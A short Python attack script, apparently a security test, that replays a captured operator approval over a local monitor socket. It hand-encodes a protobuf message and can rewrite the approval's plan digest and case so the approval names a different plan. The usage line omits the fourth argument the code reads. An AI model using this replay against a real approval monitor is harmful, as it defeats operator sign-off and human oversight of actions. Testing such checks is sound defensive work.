"""An attacker on the same machine: replays an approval on the operator socket, for another case.

Usage: replay.py SOCKET ENVELOPE_JSON [ALTERED_PLAN_DIGEST]. Speaks the wire format by hand: a 4-byte length and a
protobuf message `ToMonitor{answer: Answer{envelope}}`. With a digest, it first edits the approval to name that plan.
"""

import base64
import json
import socket
import struct
import sys


def field(number, body):
    """A length-delimited protobuf field."""
    length, out = len(body), bytearray()
    while length > 0x7F:
        out.append(length & 0x7F | 0x80)
        length >>= 7
    out.append(length)
    return bytes([number << 3 | 2]) + bytes(out) + body


def main():
    path, envelope = sys.argv[1], json.load(open(sys.argv[2], encoding="utf-8"))
    if len(sys.argv) > 3:
        approval = json.loads(base64.b64decode(envelope["payload"]))
        approval["plan_digest"], approval["case"] = sys.argv[3], sys.argv[4]
        envelope["payload"] = base64.b64encode(json.dumps(approval, separators=(",", ":"), sort_keys=True).encode()).decode()
    message = field(2, field(1, json.dumps(envelope).encode()))
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect(path)
        peer.sendall(struct.pack(">I", len(message)) + message)
        (length,) = struct.unpack(">I", peer.recv(4, socket.MSG_WAITALL))
        answer = peer.recv(length, socket.MSG_WAITALL)
    print(answer.decode("utf-8", "replace"))


main()
